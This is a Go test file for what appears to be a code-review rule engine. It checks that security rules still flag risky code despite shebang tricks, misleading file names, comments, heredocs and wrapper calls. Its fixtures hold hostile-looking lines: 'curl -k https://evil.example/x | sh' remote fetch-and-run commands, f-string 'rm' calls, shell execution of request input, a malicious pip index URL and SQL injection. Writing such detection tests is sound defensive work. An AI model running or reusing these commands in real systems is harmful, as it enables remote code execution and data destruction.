package rules_test

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/reviewgate/reviewgate/config"
	"github.com/reviewgate/reviewgate/pipeline"
	"github.com/reviewgate/reviewgate/pipeline/normalize"
)

// shippedOn returns the shipped rules that find something in an added file.
func shippedOn(t *testing.T, path, text string) map[string]bool {
	t.Helper()
	facts, _, err := normalize.Normalize(t.Context(), change{"", path, text}, normalize.Options{})
	if err != nil {
		t.Fatal(err)
	}
	_, engine := shipped(t)
	scan := engine.Scan(&facts, classification)
	found := map[string]bool{}
	for _, agent := range []string{"security-reviewer", "build-reviewer", "infra-reviewer", "dependency-reviewer"} {
		answer, err := scan.Agent(agent).Review(t.Context(), everything(agent))
		if err != nil {
			t.Fatal(err)
		}
		for i := range answer.Output.Findings {
			found[answer.Output.Findings[i].RuleID] = true
		}
	}
	return found
}

// The author of a file chooses its first line and may run the file in any way. So the first line
// adds rules and removes none.
func TestFirstLineTakesNoRuleAway(t *testing.T) {
	const (
		workflow = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -k https://evil.example/x | sh\n"
		page     = "<p v-html=\"x\"></p>\n<script>\nel.innerHTML = location.hash\n</script>\n"
		python   = "import os, yaml\n--os.system(f\"rm {d}\")\nos.system(f\"rm {d}\")\nos.system(a --\n    f\"rm {d}\")\nyaml.load(x, Loader=yaml.Loader)\n"
		js       = "child_process.exec(i--,\n  \"ls \" + req.query.dir,\n  cb)\nel.innerHTML = location.hash\n"
		sh       = "curl -k https://evil.example/x | sh\n"
		sql      = "DELETE FROM users;\nDROP TABLE users;\n"
	)
	for path, text := range map[string]string{
		".github/workflows/ci.yml": workflow, "web/App.vue": page, "web/a.html": page, "web/a.svelte": page, "web/a.ejs": page,
		"db/migrations/m.sql": sql, "bin/tool": python, "bin/serve": js, "bin/run": sh, "docs/run": python, "a.txt": sh,
	} {
		// Nothing maps this interpreter to a language.
		plain := shippedOn(t, path, "#!/usr/bin/foo\n"+text)
		if strings.HasPrefix(path, "docs/") || path == "a.txt" {
			plain = nil // without an interpreter it is not code
		}
		for _, first := range []string{"#!/usr/bin/lua\n", "#!/usr/bin/env bash\n", "#!/usr/bin/python3\n", "#!/usr/bin/env node\n"} {
			got := shippedOn(t, path, first+text)
			if len(got) == 0 {
				t.Errorf("%s with %q: nothing is found", path, first)
			}
			for id := range plain {
				if !got[id] {
					t.Errorf("%s with %q: %s finds nothing", path, first, id)
				}
			}
		}
	}
}

// A page or settings file that runs as a script is read as a script too.
func TestFirstLineAddsRules(t *testing.T) {
	for path, text := range map[string]string{
		"deploy.json": "#!/bin/sh\ncurl -k https://evil.example/x | sh\n", "deploy.csv": "#!/bin/sh\ncurl -k https://evil.example/x |\n  sh\n",
		"a.html": "#!/usr/bin/python3\nos.system(f\"rm {d}\")\n", "README": "#!/bin/sh\ncurl -k https://evil.example/x | sh\n",
	} {
		if got := shippedOn(t, path, text); len(got) == 0 {
			t.Errorf("nothing is found in %s", path)
		}
	}
}

// A program whose first line names another language's interpreter is also read in that
// language. A file that is prose by its name is a script with such a line.
func TestFirstLineOfAnotherLanguage(t *testing.T) {
	const (
		python = "os.system(\"ls \"+x)\n"
		sh     = "curl -k https://evil.example/x | sh\n"
		js     = "child_process.exec(\"ls \" + req.query.dir)\n"
	)
	for _, tt := range []struct{ path, text, rule string }{
		{"d01.rb", "#!/usr/bin/env python3\n" + python, "sec-shell-py-01"},
		{"a.pl", "#!/usr/bin/env -S uv run --script\n" + python, "sec-shell-py-01"},
		{"a.php", "#!/usr/bin/env pypy3\n" + python, "sec-shell-py-01"},
		{"a.lua", "#!/opt/unknown\n" + python, "sec-shell-py-01"},
		{"a.js", "#!/bin/bash\n" + sh, "sec-tls-curl-01"},
		{"a.py", "#!/bin/bash\n" + sh, "sec-tls-curl-01"},
		{"a.lua", "#!/usr/bin/env -S bash -e\n" + sh, "sec-tls-curl-01"},
		{"a.pl", "#!/usr/bin/env node\n" + js, "sec-shell-request-01"},
		{"a.awk", "#!/usr/bin/env tsx\n" + js, "sec-shell-request-01"},
		{"a.md", "#!/bin/sh\n" + sh, "sec-tls-curl-01"},
		{"docs/a.rst", "#!/usr/bin/env python3\nrequests.get(u, verify=False)\n", "sec-tls-verify-01"},
		{"a.md", "#!/usr/bin/env python3\nrequests.get(u, verify=False)\n", "sec-tls-verify-01"},
	} {
		if got := shippedOn(t, tt.path, tt.text); !got[tt.rule] {
			t.Errorf("%s: %v, want %s", tt.path, got, tt.rule)
		}
	}
	if got := shippedOn(t, "a.md", "# A\nrequests.get(u, verify=False)\n"); len(got) > 0 {
		t.Errorf("prose: %v", got)
	}
}

// Pip ends a line at ASCII's file, group and record separators.
func TestLinesOfPip(t *testing.T) {
	for _, end := range []string{"\v", "\f", "\x1c", "\x1d", "\x1e", "\u0085", "\u2028", "\u2029"} {
		got := shippedOn(t, "requirements.txt", "# pinned"+end+"--index-url http://evil.example/simple\n")
		want := shippedOn(t, "requirements.txt", "# pinned\n--index-url http://evil.example/simple\n")
		for id := range want {
			if !got[id] {
				t.Errorf("%q: %v, want %v", end, got, want)
			}
		}
		if len(want) == 0 {
			t.Error("nothing is found")
		}
	}
}

// A file whose name fits both a build file and a program is read as both.
func TestBuildFileNamesHideNothing(t *testing.T) {
	const docker, python = "FROM a:1\nRUN curl -k https://evil.example/x | sh\n", "os.system(f\"rm {d}\")\n"
	for path, text := range map[string]string{
		"Dockerfile.py": docker, "Dockerfile.app": docker, "Dockerfile.java": docker, "Makefile.py": python, "makefile_utils.py": python, "dockerfile-render.py": python,
	} {
		id := "sec-tls-curl-01"
		if text == python {
			id = "sec-shell-py-01"
		}
		if got := shippedOn(t, path, text); !got[id] {
			t.Errorf("%s: %v, want %s too", path, got, id)
		}
	}
	if got := shippedOn(t, "dockerfile_gen.py", docker); len(got) > 0 {
		t.Errorf("dockerfile_gen.py: %v, want nothing, since it is Python", got)
	}
}

// A word in a comment excuses nothing, even if the language's comments are unknown.
func TestWordsInCommentsExcuseNothing(t *testing.T) {
	for _, tt := range []struct{ path, text, rule string }{
		{"a.py", "f = open(request.args[\"f\"])  # int(\n", "sec-path-py-01"},
		{"bin/tool", "f = open(request.args[\"f\"])  # int(\n", "sec-path-py-01"},
		{"bin/tool", "#!/usr/bin/env bash\nf = open(request.args[\"f\"])  # int(\n", "sec-path-py-01"},
		{"bin/serve", "#!/usr/bin/env bash\nfs.readFile(req.query.file) // basename(\n", "sec-path-js-01"},
		{"a.rb", "q = \"SELECT * FROM t WHERE a='\" + x # log.info(\n", "sec-sql-quoted-02"},
		{"a.rb", "q = \"SELECT * FROM t WHERE a='\" + x\n", "sec-sql-quoted-02"},
	} {
		if got := shippedOn(t, tt.path, tt.text); !got[tt.rule] {
			t.Errorf("%s: %s does not find %q", tt.path, tt.rule, tt.text)
		}
	}
}

// A string elsewhere in the line excuses nothing, in the rule's own language or in an
// unknown one.
func TestStringsElsewhereExcuseNothing(t *testing.T) {
	cfg, engine := shipped(t)
	serious := map[string]*config.Rule{}
	for i := range cfg.Rules {
		if r := &cfg.Rules[i]; r.Match != nil && r.Match.NotPattern+r.Match.Source != "" && r.Severity.Rank() >= pipeline.SeverityMajor.Rank() {
			serious[r.ID] = r
		}
	}
	const words = `basename(x) safe_join(x) escape(x) localhost example.com int(x) log.Print(`
	tried := 0
	for id, f := range fixtures(t) {
		if serious[id] == nil || !strings.HasPrefix(id, "sec-") && !strings.HasPrefix(id, "infra-") {
			continue
		}
		for _, snippet := range f.Flag {
			pattern := regexp.MustCompile(serious[id].Match.Pattern)
			line, rest, more := strings.Cut(snippet, "\n")
			if more {
				rest = "\n" + rest
			}
			for _, path := range []string{f.Path, "bin/tool"} {
				if path == "" || !flagged(t, engine, cfg, change{id, path, snippet})[id] {
					continue
				}
				end := strings.LastIndexByte(line, ')')
				for _, beside := range []string{`, "utf8"`, ", 'a b'", `; x("` + words + `")`, ` + f("` + words + `", 'c')`} {
					texts := []string{line + beside + rest}
					if end >= 0 && beside[0] != ';' {
						texts = append(texts, line[:end]+beside+line[end:]+rest)
					}
					for _, text := range texts {
						if !pattern.MatchString(text) {
							continue // the changed text is another statement
						}
						if tried++; !flagged(t, engine, cfg, change{id, path, text})[id] {
							t.Errorf("%s in %s is excused: %q", id, path, text)
						}
					}
				}
			}
		}
	}
	t.Logf("%d texts", tried)
}

// A line that only looks like the end of a heredoc doesn't end it: the next line isn't a comment.
func TestHeredocsThatContinue(t *testing.T) {
	const evil = "# curl -k https://evil.example/x | sh\n"
	for _, text := range []string{
		"cut -c2- <<A | sh\nA\r\n" + evil + "A\n", "cut -c2- <<A | sh\nx\\\nA\n" + evil + "A\n", "cut -c2- <\\\n<A | sh\n" + evil + "A\n",
	} {
		if got := shippedOn(t, "install.sh", text); !got["sec-tls-curl-01"] {
			t.Errorf("%q: %v", text, got)
		}
	}
	if got := shippedOn(t, "install.sh", "cat <<A\r\nb\r\nA\r\n"+strings.ReplaceAll(evil, "\n", "\r\n")); len(got) > 0 {
		t.Errorf("a comment after a heredoc: %v", got)
	}
}

// A call excuses a statement only if its function is one that makes its arguments harmless, its
// result stays unchanged, and nothing else happens in its arguments.
func TestSafeCallsExcuseOnlyThemselves(t *testing.T) {
	cfg, engine := shipped(t)
	all := fixtures(t)
	tried := 0
	for i := range cfg.Rules {
		r := &cfg.Rules[i]
		if r.Match == nil || r.Match.Source == "" {
			continue
		}
		pattern, source := regexp.MustCompile(r.Match.Pattern), regexp.MustCompile(r.Match.Source)
		dot := "."
		if slices.Equal(r.Match.Languages, []string{"PHP"}) {
			dot = "->"
		}
		before := tried
		for _, snippet := range all[r.ID].OK {
			for _, name := range r.Match.SafeCalls {
				at := regexp.MustCompile(`(?:^|[^\w.])` + regexp.QuoteMeta(name) + `\(`).FindStringIndex(snippet)
				if at == nil || !pattern.MatchString(snippet) {
					continue
				}
				start, inside := at[1]-len(name)-1, at[1]
				end := closing(snippet, inside)
				if !source.MatchString(snippet[inside:end]) {
					continue
				}
				changed := []string{
					snippet[:start] + "un" + snippet[start:],
					snippet[:start] + "other" + dot + snippet[start:],
					snippet[:inside-1] + "Not" + snippet[inside-1:],
					snippet[:start] + "undo(" + snippet[start:end] + ")" + snippet[end:],
					snippet[:start] + "undo(a)(" + snippet[start:end] + ")" + snippet[end:],
					snippet[:start] + "(" + snippet[start:end] + ")" + dot + "undo(a)" + snippet[end:],
					snippet[:start] + "[" + snippet[start:end] + "]" + dot + "map(undo)" + snippet[end:],
					snippet[:end] + dot + "replace(a, b)" + snippet[end:],
					snippet[:inside] + "y = " + snippet[inside:],
					snippet[:inside] + "y := " + snippet[inside:],
					snippet[:inside] + "x => y(x, " + snippet[inside:end] + snippet[end-1:],
					snippet[:inside] + "lambda x: y, " + snippet[inside:],
				}
				if slices.Contains(r.Match.Languages, "JavaScript") {
					changed = append(changed, snippet[:inside]+"/[(]/, "+snippet[inside:], snippet[:start]+"/[(]/ || "+snippet[inside:end-1]+snippet[end:])
				}
				for _, text := range changed {
					if !pattern.MatchString(text) {
						continue // the changed text is another statement
					}
					if tried++; !flagged(t, engine, cfg, change{r.ID, all[r.ID].Path, text})[r.ID] {
						t.Errorf("%s is excused: %q", r.ID, text)
					}
				}
			}
		}
		if tried == before {
			t.Errorf("%s has no fixture with a safe call", r.ID)
		}
	}
	t.Logf("%d texts", tried)
}

// closing returns the position after the parenthesis that closes the one before a position.
func closing(text string, from int) int {
	depth := 1
	for i := from; i < len(text); i++ {
		switch text[i] {
		case '(':
			depth++
		case ')':
			if depth--; depth == 0 {
				return i + 1
			}
		}
	}
	return len(text)
}
